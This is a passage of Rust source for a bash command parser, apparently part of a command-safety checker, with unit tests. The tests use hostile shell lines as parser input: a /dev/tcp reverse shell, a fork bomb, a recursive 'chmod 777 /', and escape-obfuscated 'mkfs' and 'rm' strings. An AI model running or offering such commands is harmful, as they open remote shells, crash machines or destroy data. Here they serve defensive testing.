                    parts.push(Part::Lit(s));
                }
            }
        };
        // In Expand mode literal text counts as quoted (no splitting or globbing).
        let lit_quoted = mode != Mode::Normal && mode != Mode::ParamWord;
        loop {
            let Some(b) = self.peek() else {
                if mode == Mode::DQuote {
                    return Err(self.err("unterminated double quote"));
                }
                break;
            };
            match mode {
                Mode::Normal => {
                    if is_meta(b) {
                        // Process substitution at the start of a word part.
                        if (b == b'<' || b == b'>') && self.peek_at(1) == Some(b'(') {
                            push_lit(&mut parts, &mut lit, lit_quoted);
                            parts.push(self.proc_subst(b == b'>')?);
                            continue;
                        }
                        // Extglob `@(…)`, `!(…)`, `+(…)`, `*(…)`, `?(…)`.
                        if b == b'(' && matches!(lit.last(), Some(b'@' | b'!' | b'+' | b'*' | b'?'))
                        {
                            let end = self.balanced_paren_end(self.pos)?;
                            lit.extend_from_slice(&self.src[self.pos..end]);
                            self.pos = end;
                            continue;
                        }
                        break;
                    }
                }
                Mode::DQuote => {
                    if b == b'"' {
                        break;
                    }
                }
                Mode::Expand | Mode::ParamWord => {}
            }
            match b {
                b'\\' => {
                    let next = self.peek_at(1);
                    match next {
                        Some(b'\n') => self.pos += 2,
                        None => {
                            lit.push(b'\\');
                            self.pos += 1;
                        }
                        Some(c) => {
                            let escapes = match mode {
                                Mode::Normal | Mode::ParamWord => true,
                                Mode::DQuote => matches!(c, b'$' | b'`' | b'"' | b'\\'),
                                Mode::Expand => matches!(c, b'$' | b'`' | b'\\'),
                            };
                            if escapes {
                                push_lit(&mut parts, &mut lit, lit_quoted);
                                let len = utf8_len(c);
                                let end = (self.pos + 1 + len).min(self.src.len());
                                let s = self.text(self.pos + 1, end);
                                parts.push(Part::Quoted(s));
                                self.pos = end;
                            } else {
                                lit.push(b'\\');
                                self.pos += 1;
                            }
                        }
                    }
                }
                b'\'' if matches!(mode, Mode::Normal | Mode::ParamWord) => {
                    push_lit(&mut parts, &mut lit, lit_quoted);
                    let start = self.pos + 1;
                    let Some(len) = self.src[start..].iter().position(|&c| c == b'\'') else {
                        return Err(self.err("unterminated single quote"));
                    };
                    parts.push(Part::Quoted(self.text(start, start + len)));
                    self.pos = start + len + 1;
                }
                b'"' if matches!(mode, Mode::Normal | Mode::ParamWord) => {
                    push_lit(&mut parts, &mut lit, lit_quoted);
                    self.pos += 1;
                    let inner = self.read_parts(Mode::DQuote)?;
                    if self.peek() != Some(b'"') {
                        return Err(self.err("unterminated double quote"));
                    }
                    self.pos += 1;
                    if inner.is_empty() {
                        parts.push(Part::Quoted(String::new()));
                    }
                    parts.extend(inner);
                }
                b'`' => {
                    push_lit(&mut parts, &mut lit, lit_quoted);
                    parts.push(self.backtick(quoted_ctx)?);
                }
                b'$' => {
                    push_lit(&mut parts, &mut lit, lit_quoted);
                    if let Some(p) = self.dollar(quoted_ctx || mode == Mode::Expand, mode)? {
                        parts.push(p);
                    } else {
                        lit.push(b'$');
                        self.pos += 1;
                    }
                }
                _ => {
                    lit.push(b);
                    self.pos += 1;
                }
            }
        }
        push_lit(&mut parts, &mut lit, lit_quoted);
        Ok(parts)
    }

    /// The end (exclusive) of a parenthesised group starting at `open`.
    fn balanced_paren_end(&self, open: usize) -> Result<usize, ParseError> {
        let mut depth = 0usize;
        let mut i = open;
        while let Some(&b) = self.src.get(i) {
            match b {
                b'(' => depth += 1,
                b')' => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return Ok(i + 1);
                    }
                }
                b'\\' => i += 1,
                _ => {}
            }
            i += 1;
        }
        Err(self.err("unterminated `(`"))
    }

    fn proc_subst(&mut self, output: bool) -> Result<Part, ParseError> {
        let start = self.pos;
        self.pos += 2;
        self.enter()?;
        let script = self.list(Term::Paren)?;
        self.leave();
        if self.peek() != Some(b')') {
            return Err(self.err("unterminated process substitution"));
        }
        self.pos += 1;
        Ok(Part::Proc { script, output, raw: self.text(start, self.pos) })
    }

    fn backtick(&mut self, quoted: bool) -> Result<Part, ParseError> {
        let start = self.pos;
        self.pos += 1;
        let mut body = Vec::new();
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated backtick")),
                Some(b'`') => {
                    self.pos += 1;
                    break;
                }
                Some(b'\\') => {
                    match self.peek_at(1) {
                        Some(c @ (b'`' | b'$' | b'\\')) => body.push(c),
                        Some(b'"') if quoted => body.push(b'"'),
                        Some(c) => {
                            body.push(b'\\');
                            body.push(c);
                        }
                        None => body.push(b'\\'),
                    }
                    self.pos += 2;
                }
                Some(c) => {
                    body.push(c);
                    self.pos += 1;
                }
            }
        }
        let text = String::from_utf8_lossy(&body).into_owned();
        let script = self.sub_script(&text)?;
        Ok(Part::Subst { script, quoted, raw: self.text(start, self.pos) })
    }

    /// A `$` expansion at the position; `None` when the `$` is literal.
    fn dollar(&mut self, quoted: bool, mode: Mode) -> Result<Option<Part>, ParseError> {
        let start = self.pos;
        match self.peek_at(1) {
            Some(b'(') => {
                if self.peek_at(2) == Some(b'(')
                    && let Some(end) = find_double_close(&self.src, self.pos + 3)
                    && !looks_like_commands(&self.src[self.pos + 3..end])
                {
                    let text = self.text(self.pos + 3, end);
                    self.pos = end + 2;
                    let word = self.sub_word(&text, Mode::Expand)?;
                    return Ok(Some(Part::Arith { word, quoted }));
                }
                self.pos += 2;
                self.enter()?;
                let script = self.list(Term::Paren)?;
                self.leave();
                if self.peek() != Some(b')') {
                    return Err(self.err("unterminated `$(`"));
                }
                self.pos += 1;
                Ok(Some(Part::Subst { script, quoted, raw: self.text(start, self.pos) }))
            }
            Some(b'{') => self.brace_param(quoted).map(Some),
            Some(b'\'') if !quoted && mode != Mode::Expand => {
                let mut i = self.pos + 2;
                let mut raw = Vec::new();
                loop {
                    match self.src.get(i) {
                        None => return Err(self.err("unterminated $'")),
                        Some(b'\'') => break,
                        Some(b'\\') => {
                            raw.push(b'\\');
                            if let Some(&c) = self.src.get(i + 1) {
                                raw.push(c);
                            }
                            i += 2;
                        }
                        Some(&c) => {
                            raw.push(c);
                            i += 1;
                        }
                    }
                }
                self.pos = i + 1;
                Ok(Some(Part::Quoted(ansi_c(&raw))))
            }
            Some(b'"') if !quoted && mode != Mode::Expand => {
                // `$"…"` is a translated string: the same as `"…"`.
                self.pos += 1;
                Ok(Some(Part::Quoted(String::new())))
            }
            Some(c) if is_name_start(c) => {
                let mut i = self.pos + 1;
                while self.src.get(i).is_some_and(|&b| is_name_char(b)) {
                    i += 1;
                }
                let name = self.text(self.pos + 1, i);
                self.pos = i;
                Ok(Some(Part::Param(Box::new(Param {
                    name,
                    index: None,
                    index_word: None,
                    op: ParamOp::Plain,
                    quoted,
                    raw: self.text(start, i),
                }))))
            }
            Some(c)
                if c.is_ascii_digit()
                    || matches!(c, b'@' | b'*' | b'#' | b'?' | b'$' | b'!' | b'-') =>
            {
                self.pos += 2;
                Ok(Some(Part::Param(Box::new(Param {
                    name: (c as char).to_string(),
                    index: None,
                    index_word: None,
                    op: ParamOp::Plain,
                    quoted,
                    raw: self.text(start, self.pos),
                }))))
            }
            _ => Ok(None),
        }
    }

    fn brace_param(&mut self, quoted: bool) -> Result<Part, ParseError> {
        let start = self.pos;
        // Find the matching `}`, skipping quotes and nested expansions.
        let mut i = self.pos + 2;
        let mut depth = 1usize;
        while depth > 0 {
            match self.src.get(i) {
                None => return Err(self.err("unterminated `${`")),
                Some(b'\\') => i += 2,
                Some(b'\'') if !quoted => {
                    i += 1;
                    while self.src.get(i).is_some_and(|&b| b != b'\'') {
                        i += 1;
                    }
                    i += 1;
                }
                Some(b'{') => {
                    depth += 1;
                    i += 1;
                }
                Some(b'}') => {
                    depth -= 1;
                    i += 1;
                }
                Some(_) => i += 1,
            }
        }
        let end = i; // after `}`
        let inner = self.text(self.pos + 2, end - 1);
        self.pos = end;
        let raw = self.text(start, end);
        let bytes = inner.as_bytes();
        let mut j = 0;
        let mut length = false;
        let mut indirect = false;
        if bytes.first() == Some(&b'#') && bytes.len() > 1 {
            length = true;
            j = 1;
        } else if bytes.first() == Some(&b'!') && bytes.len() > 1 {
            indirect = true;
            j = 1;
        }
        let name_start = j;
        if bytes.get(j).is_some_and(|&b| is_name_start(b)) {
            while bytes.get(j).is_some_and(|&b| is_name_char(b)) {
                j += 1;
            }
        } else if bytes.get(j).is_some_and(u8::is_ascii_digit) {
            while bytes.get(j).is_some_and(u8::is_ascii_digit) {
                j += 1;
            }
        } else if bytes
            .get(j)
            .is_some_and(|&b| matches!(b, b'@' | b'*' | b'#' | b'?' | b'$' | b'!' | b'-'))
        {
            j += 1;
        } else {
            return Err(self.err("bad substitution"));
        }
        let name = inner.get(name_start..j).unwrap_or_default().to_owned();
        let mut index = None;
        let mut index_word = None;
        if bytes.get(j) == Some(&b'[') {
            let close = bytes[j..].iter().position(|&b| b == b']').map(|p| p + j);
            let Some(close) = close else {
                return Err(self.err("bad array subscript"));
            };
            let text = inner.get(j + 1..close).unwrap_or_default().to_owned();
            if text.contains(['$', '`']) {
                index_word = Some(self.sub_word(&text, Mode::Expand)?);
            }
            index = Some(text);
            j = close + 1;
        }
        let rest = inner.get(j..).unwrap_or_default();
        let op = if rest == "@P" {
            ParamOp::Prompt
        } else if length && rest.is_empty() {
            ParamOp::Length
        } else if indirect {
            ParamOp::Other(self.sub_word(rest, Mode::ParamWord)?)
        } else if rest.is_empty() {
            ParamOp::Plain
        } else if let Some(w) = ["-", ":-", "=", ":="].iter().find_map(|op| rest.strip_prefix(op)) {
            ParamOp::Default(self.sub_word(w, Mode::ParamWord)?)
        } else {
            let w = rest.trim_start_matches([':', '+', '?', '#', '%', '/', '^', ',', '@']);
            ParamOp::Other(self.sub_word(w, Mode::ParamWord)?)
        };
        Ok(Part::Param(Box::new(Param { name, index, index_word, op, quoted, raw })))
    }
}

/// Whether the body of a `$((…))` or `((…))` reads as commands rather than arithmetic: two
/// words side by side (`cd packages && rm -rf core`), which no arithmetic expression has. Bash
/// itself re-parses such a body as a subshell inside a command substitution.
fn looks_like_commands(body: &[u8]) -> bool {
    let text = String::from_utf8_lossy(body);
    let words: Vec<&str> = text.split_whitespace().collect();
    let wordy = |w: &str| {
        w.chars().next().is_some_and(|c| {
            c.is_ascii_alphabetic() || matches!(c, '-' | '.' | '/' | '~' | '_' | '"' | '\'')
        })
    };
    words.windows(2).any(|p| {
        wordy(p[0])
            && wordy(p[1])
            && !p[0]
                .ends_with(['+', '-', '*', '/', '%', '=', '<', '>', '&', '|', '^', '!', '?', ':'])
    }) || text.contains(';')
}

/// The UTF-8 length of a sequence starting with byte `b` (1 for anything unexpected).
fn utf8_len(b: u8) -> usize {
    match b {
        0xC0..=0xDF => 2,
        0xE0..=0xEF => 3,
        0xF0..=0xF7 => 4,
        _ => 1,
    }
}

/// The index of the `))` closing an arithmetic expression whose body starts at `start`.
fn find_double_close(src: &[u8], start: usize) -> Option<usize> {
    let mut depth = 0usize;
    let mut i = start;
    while let Some(&b) = src.get(i) {
        match b {
            b'(' => depth += 1,
            b')' if depth > 0 => depth -= 1,
            b')' => return (src.get(i + 1) == Some(&b')')).then_some(i),
            _ => {}
        }
        i += 1;
    }
    None
}

/// Decodes the body of an ANSI-C string `$'…'`.
fn ansi_c(raw: &[u8]) -> String {
    let mut out: Vec<u8> = Vec::with_capacity(raw.len());
    let mut i = 0;
    let hex = |s: &[u8]| -> Option<u32> {
        std::str::from_utf8(s).ok().and_then(|s| u32::from_str_radix(s, 16).ok())
    };
    while i < raw.len() {
        let b = raw[i];
        if b != b'\\' || i + 1 >= raw.len() {
            out.push(b);
            i += 1;
            continue;
        }
        let c = raw[i + 1];
        i += 2;
        let simple = match c {
            b'n' => Some(b'\n'),
            b't' => Some(b'\t'),
            b'r' => Some(b'\r'),
            b'a' => Some(7),
            b'b' => Some(8),
            b'e' | b'E' => Some(27),
            b'f' => Some(12),
            b'v' => Some(11),
            b'\\' => Some(b'\\'),
            b'\'' => Some(b'\''),
            b'"' => Some(b'"'),
            b'?' => Some(b'?'),
            _ => None,
        };
        if let Some(s) = simple {
            out.push(s);
            continue;
        }
        match c {
            b'x' | b'u' | b'U' => {
                let max = match c {
                    b'x' => 2,
                    b'u' => 4,
                    _ => 8,
                };
                let mut j = i;
                while j < raw.len() && j - i < max && raw[j].is_ascii_hexdigit() {
                    j += 1;
                }
                match hex(&raw[i..j]) {
                    Some(v) if c == b'x' => out.push(v as u8),
                    Some(v) => {
                        let ch = char::from_u32(v).unwrap_or('\u{fffd}');
                        let mut buf = [0u8; 4];
                        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                    }
                    None => {
                        out.push(b'\\');
                        out.push(c);
                    }
                }
                i = j;
            }
            b'0'..=b'7' => {
                let mut j = i - 1;
                let mut v: u32 = 0;
                while j < raw.len() && j < i + 2 && (b'0'..=b'7').contains(&raw[j]) {
                    v = v * 8 + u32::from(raw[j] - b'0');
                    j += 1;
                }
                out.push((v & 0xff) as u8);
                i = j;
            }
            b'c' if i < raw.len() => {
                out.push(raw[i] & 0x1f);
                i += 1;
            }
            _ => {
                out.push(b'\\');
                out.push(c);
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

// ---------------------------------------------------------------------------------------------
// Moving heredoc bodies into their redirections.

fn fill_script(s: &mut Script, bodies: &mut [Option<Word>], depth: usize) {
    if depth > MAX_DEPTH * 2 {
        return;
    }
    for item in &mut s.items {
        for p in &mut item.pipelines {
            for c in &mut p.cmds {
                fill_command(c, bodies, depth + 1);
            }
        }
    }
}

fn fill_command(c: &mut Command, bodies: &mut [Option<Word>], depth: usize) {
    match c {
        Command::Simple(s) => {
            for r in &mut s.redirs {
                fill_redir(r, bodies, depth);
            }
            for w in &mut s.words {
                fill_word(w, bodies, depth);
            }
            for a in s.assigns.iter_mut().chain(s.decls.iter_mut()) {
                match &mut a.value {
                    AssignValue::Scalar(w) => fill_word(w, bodies, depth),
                    AssignValue::Array(ws) => {
                        for w in ws {
                            fill_word(w, bodies, depth);
                        }
                    }
                }
            }
        }
        Command::Compound(comp, redirs) => {
            for r in redirs {
                fill_redir(r, bodies, depth);
            }
            match comp.as_mut() {
                Compound::Subshell(s) | Compound::Group(s) => fill_script(s, bodies, depth),
                Compound::If(parts) => {
                    for s in parts {
                        fill_script(s, bodies, depth);
                    }
                }
                Compound::Loop(a, b, _) => {
                    fill_script(a, bodies, depth);
                    fill_script(b, bodies, depth);
                }
                Compound::For(_, words, body) => {
                    for w in words.iter_mut().flatten() {
                        fill_word(w, bodies, depth);
                    }
                    fill_script(body, bodies, depth);
                }
                Compound::ArithFor(words, body) => {
                    for w in words {
                        fill_word(w, bodies, depth);
                    }
                    fill_script(body, bodies, depth);
                }
                Compound::Case(w, arms) => {
                    fill_word(w, bodies, depth);
                    for (pats, body) in arms {
                        for p in pats {
                            fill_word(p, bodies, depth);
                        }
                        fill_script(body, bodies, depth);
                    }
                }
                Compound::Arith(w) => fill_word(w, bodies, depth),
                Compound::Cond(ws) => {
                    for w in ws {
                        fill_word(w, bodies, depth);
                    }
                }
            }
        }
        Command::Function(f) => {
            // Function bodies are shared (`Rc`); fill a private copy when needed.
            let f = Rc::make_mut(f);
            fill_command(&mut f.body, bodies, depth + 1);
        }
    }
}

fn fill_redir(r: &mut Redir, bodies: &mut [Option<Word>], depth: usize) {
    match &mut r.target {
        RedirTarget::Pending(idx) => {
            let body = bodies.get_mut(*idx).and_then(Option::take).unwrap_or_default();
            r.target = RedirTarget::Heredoc(body);
        }
        RedirTarget::Word(w) | RedirTarget::Heredoc(w) => fill_word(w, bodies, depth),
    }
}

fn fill_word(w: &mut Word, bodies: &mut [Option<Word>], depth: usize) {
    for p in &mut w.parts {
        match p {
            Part::Subst { script, .. } | Part::Proc { script, .. } => {
                fill_script(script, bodies, depth + 1);
            }
            Part::Param(param) => {
                if let Some(w) = &mut param.index_word {
                    fill_word(w, bodies, depth + 1);
                }
                match &mut param.op {
                    ParamOp::Default(w) | ParamOp::Other(w) => fill_word(w, bodies, depth + 1),
                    ParamOp::Plain | ParamOp::Length | ParamOp::Prompt => {}
                }
            }
            Part::Arith { word, .. } => fill_word(word, bodies, depth + 1),
            Part::Lit(_) | Part::Quoted(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ok(src: &str) -> Script {
        match parse(src) {
            Ok(s) => s,
            Err(e) => panic!("{src:?}: {e}"),
        }
    }

    #[test]
    fn parses_the_basic_forms() {
        for src in [
            "ls",
            "a; b && c || d | e & f",
            "(a; b) | { c; d; }",
            "if a; then b; elif c; then d; else e; fi",
            "while read -r l; do echo \"$l\"; done < <(npm publish)",
            "for f in a b; do echo $f; done",
            "for ((i=0;i<3;i++)); do echo $i; done",
            "case $x in a|b) echo 1;; *) echo 2;; esac",
            "[[ -n $x && $y == z ]] && echo ok",
            "(( x = 1 + 2 ))",
            "f() { echo hi; }; f",
            "function g { echo; }",
            "_(){ _|_& };_",
            "echo $'\\x72m' ${X:-/} \"$(date)\" `id` $((1+2))",
            "cat <<'EOF' > x\nbody $(not)\nEOF",
            "cat <<-EOF\n\tbody\n\tEOF",
            "a=(1 2 3); echo ${a[@]}",
            "echo {a,b} \\\n  next",
            "# just a comment",
            "",
            "ls !(x) @(a|b)",
            "exec 3<>/dev/tcp/h/1; sh <&3 >&3 2>&3",
        ] {
            ok(src);
        }
    }

    #[test]
    fn rejects_broken_input() {
        for src in ["echo 'x", "echo \"x", "(a", "a )", "if a; then b", "echo $(x", "| a", "a &&"] {
            assert!(parse(src).is_err(), "{src:?}");
        }
    }

    #[test]
    fn nesting_is_bounded() {
        let deep = format!("{}x{}", "( ".repeat(200), " )".repeat(200));
        let e = parse(&deep).err().map(|e| e.message).unwrap_or_default();
        assert!(e.contains("nesting"), "{e}");
        let deep = format!("{}x{}", "$(".repeat(200), ")".repeat(200));
        assert!(parse(&deep).is_err());
        let big = "a".repeat(MAX_SOURCE + 1);
        assert!(parse(&big).is_err());
    }

    #[test]
    fn ansi_c_strings_decode() {
        assert_eq!(ansi_c(b"\\x6d\\x6b\\x66\\x73"), "mkfs");
        assert_eq!(ansi_c(b"r\\155"), "rm");
        assert_eq!(ansi_c(b"\\u0072m"), "rm");
        assert_eq!(ansi_c(b"a\\nb\\'"), "a\nb'");
    }

    #[test]
    fn heredoc_bodies_reach_their_redirection() {
        let s = ok("sh <<EOS\nchmod -R 777 /\nEOS");
        let Some(Command::Simple(c)) = s.items.first().and_then(|i| i.pipelines[0].cmds.first())
        else {
            panic!("not simple");
        };
        match &c.redirs[0].target {
            RedirTarget::Heredoc(w) => assert_eq!(w.raw, "chmod -R 777 /\n"),
            other => panic!("{other:?}"),
        }
    }
}
